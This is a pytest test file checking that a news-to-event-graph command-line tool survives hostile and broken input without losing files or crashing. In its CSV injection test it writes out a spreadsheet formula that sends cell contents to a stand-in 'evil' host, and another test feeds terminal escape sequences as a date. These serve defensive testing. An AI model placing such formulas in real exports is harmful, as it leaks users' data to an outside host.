"""Hostile and broken input: no document lost, no file replaced, no formula run, no traceback.

Each test is one case of the robustness review; the slow cases (very long documents, very
large files) are benchmarks in bench/ (bench_long.py, bench_memory.py).
"""

from __future__ import annotations

import csv
import inspect
import json
import os
import signal
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner

from kg.cli import cli
from kg.corpus.store import Store, StoreError
from kg.dates import resolve_date
from kg.documents import Document, read_documents
from kg.errors import ActorFileError, DocumentError, GraphFileError
from kg.gazetteer import read_actor_file
from kg.graph import build_graph
from kg.readwrite import load_graph, read_graph_csv, write_graph_csv

pytestmark = pytest.mark.usefixtures("reuse_extractor")


@pytest.fixture()
def runner():
    return CliRunner()


def write(path: Path, content: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return path


# --------------------------------------------------------------------------- data loss


def test_documents_that_share_a_file_name_are_both_kept_in_a_store(runner, tmp_path):
    write(tmp_path / "d" / "a" / "report.txt", "Macron held talks with Zelenskyy in Paris.")
    write(tmp_path / "d" / "b" / "report.txt", "Putin criticized NATO on Monday.")
    store = tmp_path / "s.sqlite"
    for _ in range(2):  # a rerun keeps both too
        result = runner.invoke(cli, ["extract", "--date", "2025-12-29", "--store", str(store),
                                     str(tmp_path / "d")])
        assert result.exit_code == 0, result.output
        assert {json.loads(line)["doc"] for line in result.stdout.splitlines()} == {"a/report", "b/report"}


def test_an_id_met_twice_is_kept_twice_with_a_warning_naming_both_lines(tmp_path, caplog):
    path = write(tmp_path / "news.jsonl", '{"id": "x", "text": "One."}\n{"id": "x", "text": "Two."}\n')
    assert [(d.id, d.text) for d in read_documents([path])] == [("x", "One."), ("x#2", "Two.")]
    assert "news.jsonl, line 2: the document id 'x' was already used (" in caplog.text
    assert "news.jsonl, line 1)" in caplog.text


def test_output_through_a_symbolic_link_writes_its_target(runner, tmp_path):
    article = write(tmp_path / "a.txt", "Macron met Zelenskyy.")
    (tmp_path / "real").mkdir()
    target = write(tmp_path / "real" / "graph.html", "old")
    link = tmp_path / "link.html"
    link.symlink_to(target)
    assert runner.invoke(cli, ["build", str(article), "-o", str(link)]).exit_code == 0
    assert link.is_symlink() and "<!DOCTYPE html>" in target.read_text()


def test_output_to_a_fifo_is_written_to_not_replaced(runner, tmp_path):
    article = write(tmp_path / "a.txt", "Macron met Zelenskyy.")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = runner.invoke(cli, ["extract", str(article), "-o", str(fifo)])
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert fifo.is_fifo() and b"Volodymyr Zelenskyy" in received[0]


def test_dash_means_standard_output(runner, tmp_path):
    article = write(tmp_path / "a.txt", "Macron met Zelenskyy.")
    result = runner.invoke(cli, ["build", str(article), "-o", "-"])
    assert result.exit_code == 0 and result.stdout.startswith("<!DOCTYPE html>")
    assert "page written to standard output" in result.stderr
    assert not (tmp_path / "-").exists()


# --------------------------------------------------------------------------- injection


def test_csv_cells_that_spreadsheets_would_run_are_defused(tmp_path, events_of):
    [event] = [e for e in events_of("Macron met Zelenskyy.") if e.target]
    hostile = '=HYPERLINK("http://evil/?"&A2,"open")'
    graph = build_graph([event])
    graph.edges[next(iter(graph.edges(keys=True)))]["title"] = hostile
    graph.nodes[event.source.id]["name"] = "@SUM(1+1)"
    events_csv, actors_csv, _ = write_graph_csv(graph, tmp_path / "csv")
    [row] = csv.DictReader(events_csv.open(encoding="utf-8"))
    [actor] = [a for a in csv.DictReader(actors_csv.open(encoding="utf-8")) if a["id"] == event.source.id]
    assert (row["title"], row["source_name"], actor["name"]) == (f"'{hostile}", "'@SUM(1+1)", "'@SUM(1+1)")
    assert float(row["goldstein"]) == event.action.goldstein  # numbers stay numbers
    [(_, _, title)] = read_graph_csv(events_csv, actors_csv).edges(data="title")
    assert title == hostile


def test_control_characters_of_bad_input_are_shown_escaped(runner, tmp_path):
    article = write(tmp_path / "a.txt", "Macron met Zelenskyy.")
    result = runner.invoke(cli, ["extract", str(article), "--date", "\x1b[2J\x1b[31mred"])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\\x1b[2J" in result.stderr


# --------------------------------------------------------------------------- no traceback


def test_deep_coordination_needs_no_deep_recursion(events_of):
    text = "Macron " + "met Putin and " * 300 + "left."
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(len(inspect.stack()) + 250)  # less than the chain is long
    try:
        events = events_of(text)
    finally:
        sys.setrecursionlimit(limit)
    assert {(e.source.name, e.target.name if e.target else None) for e in events} == {
        ("Emmanuel Macron", "Vladimir Putin")}


def test_lone_surrogates_become_replacement_characters(runner, tmp_path, caplog):
    line = json.dumps({"id": "a\ud800", "title": "T\ud800", "text": "Macron met Zelenskyy.\ud800"})
    path = write(tmp_path / "news.jsonl", line + "\n")
    [doc] = read_documents([path])
    assert (doc.id, doc.title) == ("a\ufffd", "T\ufffd") and "\ud800" not in doc.text
    assert "lone surrogates" in caplog.text
    result = runner.invoke(cli, ["extract", str(path), "--store", str(tmp_path / "s.sqlite")])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout.splitlines()[0])["doc"] == "a\ufffd"


@pytest.mark.parametrize(("expression", "reference"), [("tomorrow", "9999-12-31"),
                                                       ("yesterday", "0001-01-01"),
                                                       ("next January", "9999-12-31")])
def test_dates_past_the_calendar_resolve_to_none(expression, reference):
    assert resolve_date(expression, reference, future=expression != "yesterday") is None


def test_a_csv_cell_longer_than_the_csv_modules_limit_is_read(tmp_path):
    text = "Macron met Zelenskyy. " * 10_000  # 220,000 characters
    [doc] = read_documents([write(tmp_path / "big.csv", f'id,text\nx,"{text}"\n')])
    assert doc.text == text


@pytest.mark.parametrize(("role", "message"), [
    ({"office": "president", "start": 2020}, "role 1: 'start' should be a date as text"),
    ({"office": "president", "end": "2020-13"}, "role 1: 'end' should be a date as text"),
    ({"office": 7}, "role 1: 'office' should be text"),
    ({"office": "president", "leader": "yes"}, "role 1: 'leader' should be true or false"),
    ({"office": "president", "term": "two"}, "role 1: unknown field 'term'"),
])
def test_actor_file_roles_are_checked_when_loaded(tmp_path, role, message):
    record = {"id": "p", "name": "P", "type": "PERSON", "roles": [role]}
    path = write(tmp_path / "actors.jsonl", "\n" + json.dumps(record) + "\n")
    with pytest.raises(ActorFileError, match=rf"actors.jsonl, line 2, {message}"):
        read_actor_file(path)


def test_a_full_standard_output_is_an_error_not_a_traceback(tmp_path):
    article = write(tmp_path / "a.txt", "Macron met Zelenskyy.")
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "kg", "extract", str(article)], stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=120)
    assert done.returncode == 1
    assert "Error: standard output: cannot write (No space left on device)" in done.stderr
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr


def test_a_damaged_store_is_named(tmp_path, extractor):
    path = tmp_path / "s.sqlite"
    with Store.open(path, "fingerprint") as store:
        store.put(Document(id="a", text="Macron met Zelenskyy."),
                  extractor.events([Document(id="a", text="Macron met Zelenskyy.")]))
    with sqlite3.connect(path) as db:
        db.execute("UPDATE events SET json = '{\"broken'")
    with Store.open(path) as store, pytest.raises(StoreError, match=r"s.sqlite: the stored event .* of "
                                                                   r"document 'a' is damaged"):
        list(store.events())


def test_a_graph_file_nested_too_deeply_is_refused(tmp_path):
    path = write(tmp_path / "g.json", "[" * 100_000 + "]" * 100_000)
    with pytest.raises(GraphFileError, match="g.json: not a kg graph file"):
        load_graph(path)


# --------------------------------------------------------------------------- wrong or silent


@pytest.mark.parametrize("content", ["", "id,text\n"], ids=["empty JSON lines", "header-only CSV"])
def test_empty_input_leaves_earlier_outputs_alone(runner, tmp_path, content):
    empty = write(tmp_path / ("news.csv" if content else "news.jsonl"), content)
    page, graph = write(tmp_path / "g.html", "good page"), write(tmp_path / "g.json", "good graph")
    result = runner.invoke(cli, ["build", str(empty), "-o", str(page), "--graph", str(graph)])
    assert result.exit_code == 1 and "no documents to read" in result.stderr
    assert (page.read_text(), graph.read_text()) == ("good page", "good graph")


def test_an_unterminated_csv_quote_is_named_not_merged(runner, tmp_path):
    path = write(tmp_path / "news.csv", 'id,text\na,"Macron met Zelenskyy.\nb,Putin met Trump.\n')
    with pytest.raises(DocumentError, match=r"news.csv, line 2: a quote opened in this record is never "
                                            "closed"):
        list(read_documents([path]))
    result = runner.invoke(cli, ["extract", str(path), "--skip-bad"])
    assert "Warning: skipped" in result.stderr and "line 2" in result.stderr


def test_an_unreadable_folder_is_named(tmp_path, monkeypatch):
    write(tmp_path / "a.txt", "Macron met Zelenskyy.")
    (tmp_path / "locked").mkdir()
    scandir = os.scandir

    def refuse(path="."):
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refuse)
    skipped: list[DocumentError] = []
    assert [d.id for d in read_documents([tmp_path], on_error=skipped.append)] == ["a"]
    assert [str(e) for e in skipped] == [
        f"{tmp_path / 'locked'}: cannot read this folder (Permission denied)"]


def _die(chunk):
    os.kill(os.getpid(), signal.SIGKILL)


def test_a_worker_that_dies_stops_the_run_with_an_error(monkeypatch):
    from kg.corpus import engines
    from kg.errors import KgError
    from kg.recipe import ExtractorSpec

    monkeypatch.setattr(engines, "_extract_chunk", _die)
    documents = [Document(id=f"d{i}", text="Macron met Zelenskyy.") for i in range(8)]
    with pytest.raises(KgError, match="a worker process stopped"):
        list(engines.local_results(documents, ExtractorSpec(), workers=2, chunk_size=2))


# --------------------------------------------------------------------------- second round


def test_a_file_name_that_is_not_utf8_gives_a_writable_id(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    with open(os.fsencode(folder) + b"/bad\xff.txt", "w", encoding="utf-8") as out:
        out.write("Macron met Zelenskyy.")
    [doc] = read_documents([folder])
    assert doc.id == "bad\ufffd" and doc.id.encode("utf-8")


def test_bad_bytes_inside_a_jsonl_file_spoil_only_their_line(tmp_path, caplog):
    good = b'{"id": "a", "text": "One."}\n'
    bad = b'{"id": "b", "text": "T\xff."}\n'
    path = write(tmp_path / "news.jsonl", good + bad + good.replace(b'"a"', b'"c"'))
    assert [d.id for d in read_documents([path])] == ["a", "b", "c"]
    assert "news.jsonl, line 2: not valid UTF-8" in caplog.text


def test_utf32_with_its_mark_is_read(tmp_path):
    [doc] = read_documents([write(tmp_path / "a.txt", "Macron met Zelenskyy.".encode("utf-32"))])
    assert doc.text == "Macron met Zelenskyy."


@pytest.mark.parametrize(("content", "message"), [
    ('{"id": "a", "text": "One.", "n": ' + "1" * 5000 + "}\n", "line 1: malformed JSON"),
    ("id,text,text\na,One.,Two.\n", "line 1: the column 'text' appears twice"),
], ids=["a 5000-digit number", "a repeated column"])
def test_malformed_records_are_named(tmp_path, content, message):
    path = write(tmp_path / ("news.csv" if content.startswith("id,") else "news.jsonl"), content)
    with pytest.raises(DocumentError, match=message):
        list(read_documents([path]))


@pytest.mark.parametrize(("name", "content", "message"), [
    ("a.jsonl", "[" * 100_000 + "]" * 100_000, "line 1: malformed JSON"),
    ("a.jsonl", '{"id": "g\\ud800", "name": "Gondor"}', "line 1: holds lone surrogates"),
    ("a.jsonl", '{"id": "g", "name": ["Gondor"]}', "line 1: 'name' should be text"),
    ("a.csv", 'id,name\ng,"Gondor\nr,Rohan\n', "malformed CSV"),
    ("a.csv", "id,name\ng,Gondor,extra\n", "line 2: more cells than columns"),
], ids=["deep", "surrogate", "list", "open quote", "extra cell"])
def test_bad_actor_files_are_named(tmp_path, name, content, message):
    with pytest.raises(ActorFileError, match=f"{name}, .*{message}|{name}: .*{message}"):
        read_actor_file(write(tmp_path / name, content))


def test_an_output_is_never_an_input_nor_inside_an_input_folder(runner, tmp_path):
    source = write(tmp_path / "in" / "news.jsonl", '{"text": "Macron met Zelenskyy."}\n')
    for args in (["extract", str(source), "-o", str(source)],
                 ["extract", str(tmp_path / "in"), "-o", str(tmp_path / "in" / "events.jsonl")],
                 ["build", str(source), "--store", str(tmp_path / "s.db"),
                  "-o", str(tmp_path / "s.db")]):
        result = runner.invoke(cli, args)
        assert result.exit_code == 1 and "choose another" in result.stderr, args
    assert source.read_text() == '{"text": "Macron met Zelenskyy."}\n'


def test_a_build_that_cannot_write_its_page_writes_no_graph(runner, tmp_path):
    source = write(tmp_path / "a.txt", "Macron met Zelenskyy.")
    graph = write(tmp_path / "keep.json", "kept")
    page = str(tmp_path / "no" / "p.html")
    result = runner.invoke(cli, ["build", str(source), "--graph", str(graph), "-o", page])
    assert result.exit_code == 1 and graph.read_text() == "kept"


@pytest.mark.parametrize(("change", "message"), [
    (lambda d: d["nodes"].append(dict(d["nodes"][0])), "appears twice"),
    (lambda d: d["edges"].append(dict(d["edges"][0])), "appears twice"),
    (lambda d: d["nodes"][0].update(id=1), "the actor id 1 is not text"),
], ids=["actor twice", "event twice", "number id"])
def test_kg_graph_files_are_refused_when_ambiguous(tmp_path, events_of, change, message):
    from kg.readwrite import graph_to_json

    document = json.loads(graph_to_json(build_graph(events_of("Macron met Zelenskyy."))))
    change(document)
    with pytest.raises(GraphFileError, match=message):
        load_graph(write(tmp_path / "g.json", json.dumps(document)))


def test_xml_ids_that_escape_alike_stay_apart(tmp_path, events_of):
    from kg.readwrite import export_graph, import_graph

    graph = build_graph(events_of("Macron met Zelenskyy."))
    for node in ("a\x01", "a\\u0001"):
        graph.add_node(node, **graph.nodes[next(iter(graph.nodes))])
    export_graph(graph, "graphml", tmp_path / "g.graphml")
    assert import_graph("graphml", tmp_path / "g.graphml").number_of_nodes() == 4


def test_a_stored_document_replaced_by_another_files_is_warned_about(runner, tmp_path):
    store = str(tmp_path / "s.db")
    one = write(tmp_path / "one.jsonl", '{"id": "x", "text": "Macron met Zelenskyy."}\n')
    two = write(tmp_path / "two.jsonl", '{"id": "x", "text": "Putin met Trump."}\n')
    runner.invoke(cli, ["extract", str(one), "--store", store])
    result = runner.invoke(cli, ["extract", str(two), "--store", store])
    assert "the document 'x' replaces the one stored from" in result.stderr and "one.jsonl" in result.stderr


def test_a_damaged_cache_entry_is_built_again(tmp_path, monkeypatch):
    import marshal

    from kg.recipe import ExtractorSpec

    monkeypatch.setenv("KG_CACHE_DIR", str(tmp_path))
    spec = ExtractorSpec(actor_files=(str(write(tmp_path / "a.csv", "id,name\ngondor,Gondor\n")),))
    spec.load()
    [entry] = tmp_path.glob("actors-*")
    entry.write_bytes(marshal.dumps((1,)))
    [event] = spec.load().events([Document(id="d", text="Gondor attacked Russia.")])
    assert event.source.id == "gondor"


def test_help_to_a_full_disk_is_an_error_not_a_traceback():
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "kg", "--help"], stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=60)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "cannot write (No space left on device)" in done.stderr


# --------------------------------------------------------------------------- third round


def test_outputs_are_never_the_actor_files_nor_each_other_nor_where_the_store_would_be_read(
        runner, tmp_path):
    article = write(tmp_path / "corp" / "a.txt", "Macron held talks with Zelenskyy.")
    actors = write(tmp_path / "act.csv", "id,name\ngondor,Gondor\n")
    for args in (["extract", str(article), "--actors", str(actors), "-o", str(actors)],
                 ["build", str(article), "-o", str(tmp_path / "same"), "--graph", str(tmp_path / "same")],
                 ["build", str(tmp_path / "corp"), "--store", str(tmp_path / "corp" / "kg.txt")],
                 ["build", str(article), "--store", str(article)]):
        result = runner.invoke(cli, args)
        assert result.exit_code == 1 and "choose another" in result.stderr, args
    assert actors.read_text() == "id,name\ngondor,Gondor\n"
    assert sorted(p.name for p in (tmp_path / "corp").iterdir()) == ["a.txt"]


def test_unclosed_scripts_and_lone_brackets_of_html_are_read_in_one_pass():
    from kg.texts import html_to_text

    page = "<html><p>Macron met Zelenskyy.</p><!-- note --><p>a < b</p><script>never closed"
    assert html_to_text(page) == "Macron met Zelenskyy.\n\na < b"
    assert html_to_text("<html>" + "<script " * 1000) == ""


def test_kg_reads_back_its_csv_export_of_a_very_long_sentence(tmp_path, events_of):
    graph = build_graph(events_of("Macron met Zelenskyy."))
    graph.edges[next(iter(graph.edges(keys=True)))]["text"] = "A" * 200_000
    events_csv, actors_csv, _ = write_graph_csv(graph, tmp_path / "csv")
    [(_, _, text)] = read_graph_csv(events_csv, actors_csv).edges(data="text")
    assert len(text) == 200_000


def test_an_empty_date_option_is_refused(runner, tmp_path):
    result = runner.invoke(cli, ["extract", str(write(tmp_path / "a.txt", "Text.")), "--date", ""])
    assert result.exit_code == 1 and "--date: '' is not a date" in result.stderr
